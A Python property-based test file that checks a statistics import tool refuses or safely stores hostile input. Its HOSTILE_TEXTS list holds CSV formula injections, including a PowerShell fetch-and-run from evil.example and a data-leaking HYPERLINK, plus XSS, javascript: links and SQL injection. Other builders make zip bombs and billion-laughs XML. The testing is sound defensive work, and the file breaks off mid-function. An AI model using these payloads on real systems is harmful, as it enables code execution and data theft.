"""Hostile inputs, generated: every import ends in a clear refusal or a correct import.

Property-based (hypothesis) companion to the hand-written corpus in tests/unit/test_bad_inputs.py.
For random bytes, random text in several encodings, randomly structured CSV files, random
workbooks, zip bombs, hostile XML and path-like file names, `read_file` / `plan_import` must

* return, never raise, and within a bound (hypothesis deadlines; a subprocess for the cases
  that could exhaust memory);
* either refuse the file (result.ok is False, every Problem says what was `expected` and names
  the file only as a label), or read it correctly (figures that obey every rule, text stored
  exactly as written);
* never change the store when the file is refused, also when `commit` is attempted anyway.

Text that imports is also checked on its way out: the Excel-safe CSV export has no cell that
Excel would run as a formula, and `views.markdown.escape` leaves no Markdown or HTML active.

Examples are derandomised (the same examples on every run, so CI does not flip) and no example
database is written into the repository.
"""
from __future__ import annotations

import csv
import io
import json
import os
import re
import struct
import subprocess
import sys
import tempfile
import textwrap
import time
import tracemalloc
import unicodedata
import zipfile
from dataclasses import dataclass
from datetime import date, datetime
from functools import lru_cache
from pathlib import Path

import pandas as pd
import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st

from tests.support.stores import ROOT
from workforce import schema
from workforce.export import to_excel_safe_csv
from workforce.ingest.text_rules import text_problem
from workforce.ingest.plan import FORMATS, CommitRefused, commit, plan_import, read_file
from workforce.store import active_figures, list_releases
from workforce.store.db import metadata
from workforce.views.markdown import escape, link

COLUMNS = ["period_end", "prefecture", "nationality", "measure", "breakdown", "value", "source_title", "source_url"]
LONG_COLUMNS = COLUMNS + ["source_kind", "note"]
TITLE = "出入国在留管理庁 在留外国人統計 (hostile-input test)"
URL = "https://www.moj.go.jp/isa/policies/statistics/toukei_ichiran_touroku.html"
ALL_FORMATS = ["auto", *FORMATS]
PREFECTURES = [f"{n:02d}" for n in range(1, 48)]
XLSX_LIMIT = 10_000_000  # WORKFORCE_MAX_XLSX_UNCOMPRESSED_BYTES in the zip-bomb tests
FORMULA_PREFIXES = ("=", "+", "-", "@")
MARKDOWN_ACTIVE = "<[:*"  # characters the brief requires escape() to neutralise; checked together with the rest below

_COMMON = dict(database=None, derandomize=True,
               suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example])
# Deadlines bound each example (a hang fails the test) with room for a slower CI machine: locally the
# slowest example takes well under a second.
FAST = settings(max_examples=100, deadline=5000, **_COMMON)
MEDIUM = settings(max_examples=50, deadline=5000, **_COMMON)
_WITH_FIXTURES = {**_COMMON, "suppress_health_check": [*_COMMON["suppress_health_check"],
                                                        HealthCheck.function_scoped_fixture]}
WITH_STORE = settings(max_examples=20, deadline=5000, **_WITH_FIXTURES)
WITH_FOLDERS = settings(max_examples=40, deadline=5000, **_WITH_FIXTURES)
# Examples of a megabyte (or a database round trip) make shrinking take minutes; these report unshrunk.
NO_SHRINK = [Phase.explicit, Phase.generate]

HOSTILE_TEXTS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C powershell IEX(wget evil.example/x)'!A0",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[click](https://evil.example/login)",
    "![img](https://evil.example/pixel.png)",
    ":red[x]",
    ":material/warning: **URGENT** _read_ `code`",
    "# heading | table | ~~strike~~ $x^2$",
    "<https://evil.example>",
    "'; DROP TABLE figures; --",
    "\\[escaped\\] \\*already\\*",
    "&lt;b&gt;entity&lt;/b&gt;",
]


# --------------------------------------------------------------------------------------------
# Builders (self-contained: tests/support/bad_inputs.py may change under other work)
# --------------------------------------------------------------------------------------------

def row(**changes: object) -> dict:
    """One valid long-CSV row (Aichi, VN residents total, 2011-06-30: a period the bundle does not hold)."""
    base = {"period_end": "2011-06-30", "prefecture": "23", "nationality": "VN", "measure": "residents",
            "breakdown": "total", "value": "100", "source_title": TITLE, "source_url": URL,
            "source_kind": "official", "note": ""}
    base.update(changes)
    return base


def write_csv(records: list[list[str]], *, quoting: int = csv.QUOTE_MINIMAL, line_end: str = "\n",
              blank_lines: bool = False) -> str:
    """RFC 4180 text. Python's writer quotes a bare CR only when the line terminator holds one, so a cell
    with a CR is quoted explicitly (otherwise the file itself would be malformed)."""
    if "\r" not in line_end and any("\r" in cell for record in records for cell in record):
        quoting = csv.QUOTE_ALL
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=quoting, lineterminator=line_end)
    for number, record in enumerate(records):
        writer.writerow(record)
        if blank_lines and number:
            buffer.write(line_end)
    return buffer.getvalue()


def csv_text(rows: list[dict], columns: list[str] = LONG_COLUMNS, *, quoting: int = csv.QUOTE_MINIMAL,
             line_end: str = "\n") -> str:
    return write_csv([list(columns)] + [[values.get(c, "") for c in columns] for values in rows],
                     quoting=quoting, line_end=line_end)


def csv_bytes(rows: list[dict], columns: list[str] = LONG_COLUMNS, **kwargs) -> bytes:
    return csv_text(rows, columns, **kwargs).encode("utf-8")


def workbook_bytes(sheets: list[tuple[str, list[list[object]]]], *, text_formulas: bool = True) -> bytes:
    """A workbook with the given sheets (title, rows). Strings starting with '=' stay text unless asked."""
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets:
        sheet = workbook.create_sheet(title)
        for values in rows:
            sheet.append(values)
        if text_formulas:
            for line in sheet.iter_rows():
                for cell in line:
                    if isinstance(cell.value, str) and cell.value.startswith("="):
                        cell.data_type = "s"  # what an analyst's "text" cell format does
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_from_rows(rows: list[dict], columns: list[str] = LONG_COLUMNS) -> bytes:
    return workbook_bytes([("Sheet", [columns] + [[r.get(c, "") for c in columns] for r in rows])])


def zip_parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zip_from_parts(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def without_dimension(data: bytes) -> bytes:
    """The same workbook without <dimension> in its sheets: optional in OOXML, omitted by some writers."""
    parts = zip_parts(data)
    for name in parts:
        if name.startswith("xl/worksheets/"):
            parts[name] = re.sub(rb"<dimension[^>]*/>", b"", parts[name])
    return zip_from_parts(parts)


@lru_cache(maxsize=1)
def good_csv() -> bytes:
    return csv_bytes([row(), row(prefecture="27", value="200")])


@lru_cache(maxsize=1)
def good_xlsx() -> bytes:
    return xlsx_from_rows([row(), row(prefecture="27", value="200")])


@lru_cache(maxsize=8)
def zip_bomb(part: str, size: int = 60 * 1024 * 1024) -> bytes:
    """A real workbook whose `part` is replaced by (or added as) `size` zero bytes: ~60 KB compressed."""
    parts = zip_parts(good_xlsx())
    parts[part] = b"\0" * size
    return zip_from_parts(parts)


def store_snapshot(engine: sa.Engine) -> str:
    """Every row of every table, sorted: equal strings mean equal content."""
    existing = set(sa.inspect(engine).get_table_names())
    content = {}
    with engine.connect() as conn:
        for table in metadata.sorted_tables:
            if table.name not in existing:
                content[table.name] = None
                continue
            rows = sorted([repr(v) for v in r] for r in conn.execute(sa.select(table)).all())
            content[table.name] = rows
    return json.dumps(content, ensure_ascii=False, sort_keys=True)


# --------------------------------------------------------------------------------------------
# Checks shared by the properties
# --------------------------------------------------------------------------------------------

def read(data: bytes, file_name: str, fmt: str = "auto", **source):
    """read_file, turning an exception into a test failure that says what happened."""
    try:
        return read_file(data, file_name, fmt, **source)
    except Exception as error:  # noqa: BLE001 - any exception is the bug being looked for
        raise AssertionError(f"read_file(fmt={fmt!r}) raised {type(error).__name__}: {str(error)[:300]} "
                             "instead of reporting a problem") from error


def problems_text(result) -> str:
    return result.problem_table().to_string(max_colwidth=120)[:3000]


def assert_clear_outcome(result, file_name: str) -> None:
    """A clear refusal (every problem says what was expected, for this file) or figures obeying every rule."""
    assert result.file_name == file_name
    if result.ok:
        schema.validate_figures(result.figures[schema.COLUMNS])
        return
    assert result.problems
    for problem in result.problems:
        assert isinstance(problem.expected, str) and problem.expected.strip(), problems_text(result)
        assert problem.file == file_name, problems_text(result)
        assert problem.message is not None, f"no locale key, English only: {problem.expected}"


def assert_markdown_inert(text: str) -> None:
    """escape(text) leaves every Markdown/HTML-active character behind a backslash, and only escapes."""
    escaped = escape(text)
    index = 0
    while index < len(escaped):
        char = escaped[index]
        if char == "\\":
            assert index + 1 < len(escaped), f"escape({text!r}) ends with a lone backslash"
            index += 2
            continue
        assert char not in MARKDOWN_ACTIVE + "]>`_#|~$", f"escape({text!r}) = {escaped!r} leaves {char!r} active"
        index += 1
    assert re.sub(r"\\(.)", r"\1", escaped, flags=re.S) == text  # shows exactly as typed


def assert_excel_safe(frame: pd.DataFrame) -> None:
    """to_excel_safe_csv: UTF-8 BOM, and no cell that Excel would start evaluating as a formula."""
    data = to_excel_safe_csv(frame)
    assert data.startswith(b"\xef\xbb\xbf")
    records = list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))
    assert records[0] == [str(c) for c in frame.columns]
    assert len(records) == len(frame) + 1
    for record in records:
        for cell in record:
            assert not cell.startswith(FORMULA_PREFIXES), f"exported cell {cell[:80]!r} would run as a formula"


# --------------------------------------------------------------------------------------------
# Strategies
# --------------------------------------------------------------------------------------------

def _no_surrounding_space(text: str) -> bool:
    return bool(text) and text == text.strip() and not text[0].isspace() and not text[-1].isspace()


# Any character but surrogates and NUL (a NUL in the first 8 KiB makes the file "binary": a refusal).
any_char = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")
# What openpyxl can write into a cell (XML 1.0 forbids most C0 controls).
xml_char = st.characters(blacklist_categories=("Cs",),
                         blacklist_characters="".join(chr(c) for c in range(32) if chr(c) not in "\t\n\r") + "\ufffe\uffff")


def hostile_text(alphabet=any_char) -> st.SearchStrategy[str]:
    """Text fields an attacker would try, with no surrounding whitespace (the reader trims it by design)."""
    noise = st.text(alphabet, max_size=12)
    return st.one_of(
        st.sampled_from(HOSTILE_TEXTS),
        st.builds(lambda h, tail: h + tail, st.sampled_from(HOSTILE_TEXTS), noise),
        st.builds(lambda p, body: p + body, st.sampled_from(list("=+-@<[:*#|`_~$&\\!>") + ["javascript:"]), noise),
        st.text(alphabet, min_size=1, max_size=40),
    ).filter(_no_surrounding_space)


@dataclass(frozen=True)
class Blob:
    """Bytes described shortly (hypothesis prints the test arguments when an example fails)."""

    kind: str
    data: bytes

    def __repr__(self) -> str:
        return f"Blob({self.kind}, {len(self.data)} bytes, head={self.data[:60]!r})"


@st.composite
def hostile_bytes(draw) -> Blob:
    """Random bytes, random bytes that look like a zip or text with a BOM, and valid files with bytes flipped."""
    kind = draw(st.sampled_from(["random", "zip-like", "bom", "flipped-csv", "flipped-xlsx", "truncated-xlsx"]))
    noise = draw(st.binary(max_size=2048))
    if kind == "random":
        return Blob(kind, noise)
    if kind == "zip-like":
        return Blob(kind, draw(st.sampled_from([b"PK", b"PK\x03\x04", b"PK\x05\x06"])) + noise)
    if kind == "bom":
        return Blob(kind, draw(st.sampled_from([b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff"])) + noise)
    base = good_csv() if kind == "flipped-csv" else good_xlsx()
    if kind == "truncated-xlsx":
        return Blob(kind, base[:draw(st.integers(0, len(base)))])
    flips = draw(st.lists(st.tuples(st.integers(0, len(base) - 1), st.integers(0, 255)), min_size=1, max_size=8))
    data = bytearray(base)
    for position, value in flips:
        data[position] = value
    return Blob(kind, bytes(data))


def valid_rows(title=None, note=None, *, max_rows: int = 4) -> st.SearchStrategy[list[dict]]:
    """1..max_rows valid rows for distinct prefectures (no national row: no sum check)."""
    title = st.just(TITLE) if title is None else title
    note = st.just("") if note is None else note

    @st.composite
    def rows(draw):
        codes = draw(st.lists(st.sampled_from(PREFECTURES), min_size=1, max_size=max_rows, unique=True))
        return [row(prefecture=code, value=str(draw(st.integers(0, 10**9))), source_title=draw(title),
                    note=draw(note)) for code in codes]

    return rows()


# --------------------------------------------------------------------------------------------
# Warm-up: the first read loads pandera, openpyxl and the bundled vocabularies (seconds, once)
# --------------------------------------------------------------------------------------------

@pytest.fixture(scope="module", autouse=True)
def warm_up():
    assert read_file(good_csv(), "warm.csv").ok
    assert read_file(good_xlsx(), "warm.xlsx").ok
    to_excel_safe_csv(pd.DataFrame({"a": ["x"]}))


# --------------------------------------------------------------------------------------------
# 1. Random bytes, every format
# --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ALL_FORMATS)
@FAST
@given(blob=hostile_bytes())
@example(blob=Blob("empty", b""))
@example(blob=Blob("cr-only", b"x\ry"))
@example(blob=Blob("nul", b"\x00" * 10))
def test_random_bytes_are_refused_or_read_correctly(fmt, blob):
    assert_clear_outcome(read(blob.data, "random.bin", fmt), "random.bin")


# --------------------------------------------------------------------------------------------
# 2. Random text in random encodings through the CSV reader
# --------------------------------------------------------------------------------------------

ENCODINGS = ["utf-8", "utf-8-sig", "cp932", "utf-16", "latin-1"]


def _encode(text: str, encoding: str) -> bytes | None:
    try:
        return text.encode(encoding)
    except UnicodeEncodeError:
        return None


def documented_decoding(data: bytes) -> str | None:
    """What the docs promise: UTF-8 (BOM optional) first, then Shift_JIS/CP932; None if neither fits."""
    for encoding in ("utf-8-sig", "cp932"):
        try:
            return data.decode(encoding)
        except UnicodeDecodeError:
            continue
    return None


@MEDIUM
@given(text=st.text(any_char, max_size=300), encoding=st.sampled_from(ENCODINGS))
@example(text="period_end,prefecture\r2011-06-30,23", encoding="utf-8")
def test_random_text_in_any_encoding_is_refused_or_read_correctly(text, encoding):
    data = _encode(text, encoding)
    if data is None:
        return  # not encodable: nothing to send
    assert_clear_outcome(read(data, "text.csv", "csv"), "text.csv")


@MEDIUM
@given(title=hostile_text(), encoding=st.sampled_from(ENCODINGS))
@example(title="ﾃｩ ambiguous", encoding="cp932")
@example(title="Straße Ü", encoding="latin-1")
def test_a_title_in_any_encoding_is_read_exactly_or_refused(title, encoding):
    """A valid file whose title is written in some encoding: read as the documented decoding, never mangled
    further; when the bytes decode unambiguously to the original text, the file imports."""
    data = _encode(csv_text([row(source_title=title)]), encoding)
    if data is None:
        return
    result = read(data, "title.csv", "csv")
    assert_clear_outcome(result, "title.csv")
    decoded = documented_decoding(data) if not data.startswith((b"\xff\xfe", b"\xfe\xff")) else None
    if decoded is None:
        assert not result.ok, "bytes in no supported encoding were accepted"
        return
    expected = next(csv.DictReader(io.StringIO(decoded.lstrip("\ufeff"), newline="")))["source_title"].strip()
    if result.ok:
        assert result.figures["source_title"].tolist() == [expected]
    if encoding in ("utf-8", "utf-8-sig", "cp932") and expected == title and text_problem(title) is None:
        assert result.ok, problems_text(result)  # formulas and markup are problems (issue 14)


# --------------------------------------------------------------------------------------------
# 3. Random CSV structure: extra / missing / repeated columns, quoting, ragged rows, huge fields
# --------------------------------------------------------------------------------------------

def _column_key(name: str) -> str:
    return unicodedata.normalize("NFKC", name).strip().lower()


def _variant(draw, name: str) -> str:
    """The same column spelled differently: case, full width (both are accepted)."""
    style = draw(st.sampled_from(["plain", "plain", "upper", "title", "fullwidth"]))
    if style == "upper":
        return name.upper()
    if style == "title":
        return name.title()
    if style == "fullwidth":
        return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in name)
    return name


def big_text(size: int) -> str:
    """A long cell with commas, quotes and a formula inside (it needs quoting), no surrounding space."""
    return ("lorem ipsum, \"quoted\" =1+1 " * (size // 27 + 1))[:size].strip()


BIG = object()  # in CsvSpec.expected: the cell holds big_text(size)


@dataclass(frozen=True)
class CsvSpec:
    header: tuple[str, ...]
    records: tuple[tuple[str, ...], ...]
    quoting: int
    line_end: str
    bom: bool
    blank_lines: bool
    big_cell: tuple[int, int, int] | None  # (record, column, size): that cell becomes `size` characters
    expected: tuple[tuple, ...] | None  # the figures a correct import holds, or None when it must be refused
    why: str

    def data(self) -> bytes:
        records = [list(r) for r in self.records]
        if self.big_cell is not None:
            record, column, size = self.big_cell
            records[record][column] = big_text(size)
        text = write_csv([list(self.header)] + records, quoting=self.quoting, line_end=self.line_end,
                         blank_lines=self.blank_lines)
        return (b"\xef\xbb\xbf" if self.bom else b"") + text.encode("utf-8")

    def __repr__(self) -> str:
        return (f"CsvSpec(header={self.header!r}, records={[r[:12] for r in self.records]!r}, quoting={self.quoting}, "
                f"line_end={self.line_end!r}, bom={self.bom}, blank_lines={self.blank_lines}, "
                f"big_cell={self.big_cell}, why={self.why!r})")


@st.composite
def csv_specs(draw) -> CsvSpec:
    wanted = list(COLUMNS) + draw(st.lists(st.sampled_from(["source_kind", "note"]), unique=True))
    dropped = draw(st.lists(st.sampled_from(COLUMNS), max_size=2, unique=True)) if draw(st.integers(0, 4)) == 0 else []
    present = [c for c in wanted if c not in dropped]
    extras = draw(st.lists(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\r\n"),
                                   min_size=1, max_size=12)
                           .filter(lambda n: _column_key(n) and _column_key(n) not in LONG_COLUMNS
                                   and not re.fullmatch(r"unnamed: \d+|.*\.\d+", _column_key(n))),
                           max_size=3, unique_by=_column_key))
    repeated = draw(st.lists(st.sampled_from(present), max_size=1)) if draw(st.integers(0, 5)) == 0 else []
    logical = present + extras + repeated
    order = draw(st.permutations(range(len(logical))))
    header = [logical[i] for i in order]
    spelled = [_variant(draw, name) if name in LONG_COLUMNS else name for name in header]
    exact_repeat = bool(repeated) and draw(st.booleans())
    if repeated and exact_repeat:  # the very same name twice, as some exports write it
        positions = [i for i, name in enumerate(header) if name == repeated[0]]
        for i in positions:
            spelled[i] = repeated[0]

    title = hostile_text()
    rows = draw(valid_rows(title=title, note=hostile_text() if "note" in present else None))
    records = []
    for values in rows:
        extra_values = {name: draw(st.text(any_char, max_size=8)) for name in extras}
        records.append([values.get(name, extra_values.get(name, "")) for name in header])
    ragged = draw(st.lists(st.tuples(st.integers(0, len(records) - 1), st.integers(-2, 2).filter(bool)),
                           max_size=2, unique_by=lambda change: change[0])) if draw(st.integers(0, 3)) == 0 else []
    for index, change in ragged:
        records[index] = records[index] + ["x"] * change if change > 0 else records[index][:change]
    big_cell = None
    if draw(st.integers(0, 3)) == 0:
        big_columns = [i for i, name in enumerate(header) if name in ("note", "source_title") or name in extras]
        if big_columns:
            big_cell = (draw(st.integers(0, len(records) - 1)), draw(st.sampled_from(big_columns)),
                        draw(st.sampled_from([70_000, 300_000, 1_000_000])))

    keys = [_column_key(name) for name in spelled]
    missing = [c for c in COLUMNS if c not in keys]
    if len(keys) != len(set(keys)):
        expected, why = None, f"column {repeated} given twice"
    elif missing:
        expected, why = None, f"missing columns {missing}"
    elif any(len(r) != len(header) for r in records):
        expected, why = None, "a row with more or fewer cells than the header"
    else:
        expected, why = [], "valid"
        for number, values in enumerate(rows):
            cells = dict(zip(header, records[number]))
            if big_cell is not None and big_cell[0] == number:
                cells[header[big_cell[1]]] = BIG
            expected.append((values["prefecture"], int(values["value"]), cells["source_title"], cells.get("note", "")))
        expected = tuple(expected)
    return CsvSpec(tuple(spelled), tuple(tuple(r) for r in records),
                   draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL, csv.QUOTE_NONNUMERIC])),
                   draw(st.sampled_from(["\n", "\r\n"])), draw(st.booleans()), draw(st.integers(0, 5)) == 0,
                   big_cell, expected, why)


@settings(MEDIUM, phases=NO_SHRINK)
@given(spec=csv_specs())
@example(spec=CsvSpec(header=tuple(COLUMNS) + ("value",), records=(tuple(row().values())[:8] + ("5",),),
                      quoting=csv.QUOTE_MINIMAL, line_end="\n", bom=False, blank_lines=False, big_cell=None,
                      expected=None, why="column 'value' given twice, spelled the same"))
def test_random_csv_structure_is_refused_or_read_exactly(spec):
    data = spec.data()
    result = read(data, "structure.csv", "csv")
    assert_clear_outcome(result, "structure.csv")
    if spec.expected is None:
        assert not result.ok, f"accepted although it should be refused ({spec.why}):\n{result.figures.head().to_string()}"
        return
    if any(text_problem(text) for _, _, *texts in spec.expected for text in texts if isinstance(text, str)):
        # formulas and markup in text fields are problems at import (issue 14), and the only ones here
        assert not result.ok and {p.message.key for p in result.problems} <= {"text_formula", "text_markup"}
        return
    assert result.ok, problems_text(result)
    got = result.figures.sort_values("prefecture_code")
    want = sorted(spec.expected)
    assert got["prefecture_code"].tolist() == [w[0] for w in want]
    assert got["value"].tolist() == [w[1] for w in want]
    big = big_text(spec.big_cell[2]) if spec.big_cell else None
    for (_, _, title, note), stored_title, stored_note in zip(want, got["source_title"], got["note"]):
        assert stored_title == (big if title is BIG else title)
        assert stored_note == (big if note is BIG else note)


# --------------------------------------------------------------------------------------------
# 4. Hostile text in valid rows: stored literally, exported safely, rendered inert
# --------------------------------------------------------------------------------------------



@WITH_STORE
@given(rows=valid_rows(title=hostile_text(xml_char), note=hostile_text(xml_char), max_rows=3),
       fmt=st.sampled_from(["csv", "xlsx"]))
def test_hostile_text_is_refused_or_stored_literally_exported_safely_and_escaped(bundled_store, rows, fmt):
    engine = bundled_store
    data = csv_bytes(rows) if fmt == "csv" else xlsx_from_rows(rows)
    plan = plan_import(engine, data, f"hostile.{fmt}", "auto")
    assert_clear_outcome(plan.result, f"hostile.{fmt}")
    breaking = {(column, r[column]) for r in rows for column in ("source_title", "note") if text_problem(r[column])}
    if breaking:  # formulas and markup are problems at import (issue 14), in exactly those columns
        assert not plan.can_commit
        assert {(p.column, p.value) for p in plan.result.problems} == breaking, problems_text(plan.result)
        return
    assert plan.result.ok and plan.can_commit, problems_text(plan.result)
    release = commit(engine, plan, actor="tester", note=rows[0]["note"], confirm_large_changes=True)
    stored = active_figures(engine)
    stored = stored[stored["release_id"] == release].sort_values("prefecture_code")
    want = sorted(rows, key=lambda r: r["prefecture"])
    assert stored["source_title"].tolist() == [r["source_title"] for r in want]  # no transformation on store
    assert stored["note"].tolist() == [r["note"] for r in want]
    releases = list_releases(engine)
    assert releases.loc[releases["id"] == release, "note"].tolist() == [rows[0]["note"]]
    assert_excel_safe(stored.drop(columns="release_id"))
    assert_excel_safe(plan.result.figures)
    for text in stored["source_title"].tolist() + stored["note"].tolist():
        assert_markdown_inert(text)


@FAST
@given(text=st.one_of(hostile_text(), st.text(st.characters(blacklist_categories=("Cs",)))))
@example(text="[x](javascript:alert(1))")
@example(text=":red[x]")
@example(text="<script>alert(1)</script>")
@example(text="\\")
def test_escape_leaves_no_active_markdown_or_html(text):
    assert_markdown_inert(text)


@FAST
@given(label=st.one_of(hostile_text(), st.text()), url=st.one_of(
    st.sampled_from(["javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "data:text/html,<script>",
                     "vbscript:x", "//evil.example", "ftp://x", "https://ok.example/a_(b)", "http://x/<y>"]),
    st.from_regex(r"https?://\S+", fullmatch=True),
    st.text()))
def test_links_only_point_to_http_addresses(label, url):
    if url.startswith(("http://", "https://")) and not re.fullmatch(r"https?://\S+", url):
        return  # imports accept only https?://\S+ (no whitespace) as a source address
    shown = link(label, url)
    if not url.startswith(("http://", "https://")):
        assert shown == escape(label), "a non-http(s) address must not become a link"
        return
    match = re.fullmatch(r"\[(.*)\]\(([^()\s<>]*)\)", shown, flags=re.S)
    assert match, f"link({label!r}, {url!r}) = {shown!r}"
    assert match[1] == escape(label)
    assert match[2].startswith(("http://", "https://"))


@FAST
@given(frame=st.lists(st.tuples(hostile_text(), st.one_of(hostile_text(), st.text()), st.integers(0, 10**12)),
                      min_size=1, max_size=5))
def test_excel_safe_csv_neutralises_every_formula(frame):
    assert_excel_safe(pd.DataFrame(frame, columns=["source_title", "note", "value"]))


# --------------------------------------------------------------------------------------------
# 5. Workbooks: random cells, zip bombs, lying zip headers, hostile XML
# --------------------------------------------------------------------------------------------

ISA_LABELS = [
    "【第５表】都道府県別 国籍・地域別 在留外国人数（令和６年６月末）", "【第４表】都道府県別 在留外国人数の推移",
    "【第２表】国籍・地域別 在留資格別 在留外国人数（令和６年６月末）", "【第１表】国籍・地域別 在留外国人数の推移",
    "都道府県", "国籍・地域", "総数", "ベトナム", "中国", "愛知県", "北海道", "未定・不詳", "うちベトナム",
    "令和６年６月末（2024年6月末）", "令和5年12月末", "0000年6月末", "9999年13月末", "平成元年末", "技能実習", "(注)",
    "…", "x", "-", "△5", "1,234", "１２３", "12,34",
]
cell_value = st.one_of(
    st.none(),
    st.sampled_from(HOSTILE_TEXTS),
    st.sampled_from(ISA_LABELS),
    st.sampled_from(LONG_COLUMNS + ["2011-06-30", "VN", "ALL", "residents", "total", URL, "23", "愛知県"]),
    st.text(xml_char, max_size=20),
    st.integers(-10**16, 10**16),
    st.floats(),
    st.booleans(),
    st.dates(min_value=date(1900, 3, 1), max_value=date(9999, 12, 31)),
    st.datetimes(min_value=datetime(1900, 3, 1), max_value=datetime(9999, 12, 31)),
)
SHEET_TITLES = ["Sheet", "第５表 ", "第5表", "第４表", "第２図、第３図、第２表", "第１図、第１表", "<script>", "=cmd", "データ"]


@dataclass(frozen=True)
class WorkbookSpec:
    sheets: tuple[tuple[str, tuple[tuple, ...]], ...]
    text_formulas: bool
    strip_dimension: bool

    def data(self) -> bytes:
        data = workbook_bytes([(title, [list(r) for r in rows]) for title, rows in self.sheets],
                              text_formulas=self.text_formulas)
        return without_dimension(data) if self.strip_dimension else data


@st.composite
def workbook_specs(draw) -> WorkbookSpec:
    titles = draw(st.lists(st.sampled_from(SHEET_TITLES), min_size=1, max_size=3, unique=True))
    sheets = []
    for title in titles:
        header = list(LONG_COLUMNS) if draw(st.booleans()) else draw(st.lists(cell_value, max_size=10))
        if header and draw(st.integers(0, 3)) == 0:
            del header[draw(st.integers(0, len(header) - 1))]
        rows = draw(st.lists(st.lists(cell_value, max_size=len(header) + 2), max_size=5))
        sheets.append((title, tuple(tuple(r) for r in [header, *rows])))
    return WorkbookSpec(tuple(sheets), draw(st.booleans()), draw(st.integers(0, 3)) == 0)


@MEDIUM
@given(spec=workbook_specs(), fmt=st.sampled_from(["auto", "xlsx", "isa-press"]))
@example(spec=WorkbookSpec((("Sheet", (tuple(LONG_COLUMNS), tuple(row().values())[:3])),), True, True), fmt="xlsx")
@example(spec=WorkbookSpec((("Sheet", (tuple(LONG_COLUMNS), tuple(row().values()) + ("extra",))),), True, True),
         fmt="xlsx")
@example(spec=WorkbookSpec((("第５表 ", (("【第５表】都道府県別 国籍・地域別 在留外国人数（0000年6月末）",),
                                         ("都道府県", "総数", "ベトナム"), ("総数", 1, 1))),), True, False), fmt="isa-press")
def test_random_workbooks_are_refused_or_read_correctly(spec, fmt):
    data = spec.data()
    assert_clear_outcome(read(data, "book.xlsx", fmt), "book.xlsx")


@pytest.mark.parametrize("fmt", ["auto", "xlsx", "isa-press"])
@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/media/padding.bin"])
def test_zip_bomb_is_refused_before_it_is_expanded(monkeypatch, part, fmt):
    """60 MB of zeros (~60 KB compressed) against a 10 MB limit: refused, and never decompressed."""
    monkeypatch.setenv("WORKFORCE_MAX_XLSX_UNCOMPRESSED_BYTES", str(XLSX_LIMIT))
    data = zip_bomb(part)
    assert len(data) < 1_000_000
    tracemalloc.start()
    started = time.monotonic()
    try:
        result = read(data, "bomb.xlsx", fmt)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert_clear_outcome(result, "bomb.xlsx")
    assert not result.ok
    assert any("zip bomb" in p.expected or "expands to" in p.expected for p in result.problems), problems_text(result)
    assert peak < 3 * XLSX_LIMIT, (f"reading used {peak / 1e6:.0f} MB of memory: part {part} was decompressed "
                                   f"before the {XLSX_LIMIT:,}-byte limit refused it")
    assert time.monotonic() - started < 5


@WITH_FOLDERS
@given(entry=st.integers(0, 20), size=st.one_of(st.integers(0, 2**32 - 1), st.sampled_from([0, 1, XLSX_LIMIT + 1, 2**32 - 1])),
       local_too=st.booleans(), fmt=st.sampled_from(["auto", "xlsx", "isa-press"]))
def test_zip_entries_that_lie_about_their_size_are_refused_or_read_correctly(monkeypatch, entry, size, local_too, fmt):
    monkeypatch.setenv("WORKFORCE_MAX_XLSX_UNCOMPRESSED_BYTES", str(XLSX_LIMIT))
    data = bytearray(good_xlsx())
    central = [m.start() for m in re.finditer(rb"PK\x01\x02", data)]
    local = [m.start() for m in re.finditer(rb"PK\x03\x04", data)]
    index = entry % len(central)
    struct.pack_into("<I", data, central[index] + 24, size)
    if local_too and index < len(local):
        struct.pack_into("<I", data, local[index] + 22, size)
    result = read(bytes(data), "lying.xlsx", fmt)
    assert_clear_outcome(result, "lying.xlsx")
    if size > XLSX_LIMIT:
        assert not result.ok


# Read by the tests below through the audit hook: a file an XML parser must never open.
SECRET_FILE_MARK = "hostile-input-secret"


def _fake_xlsx(replacements: dict[str, bytes], drop: tuple[str, ...] = ()) -> bytes:
    parts = zip_parts(good_xlsx())
    parts.update(replacements)
    for name in drop:
        parts.pop(name, None)
    return zip_from_parts(parts)


def _laughs(root: bytes, inner: bytes) -> bytes:
    entities = b'<!ENTITY l0 "lollollollollollollollollollol">' + b"".join(
        b'<!ENTITY l%d "%s">' % (i, (b"&l%d;" % (i - 1)) * 10) for i in range(1, 10))
    return b'<?xml version="1.0"?><!DOCTYPE %s [%s]>%s' % (root, entities, inner)


def _hostile_xml_cases(secret: Path) -> dict[str, bytes]:
    ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    sheet = zip_parts(good_xlsx())["xl/worksheets/sheet1.xml"]
    workbook = zip_parts(good_xlsx())["xl/workbook.xml"]
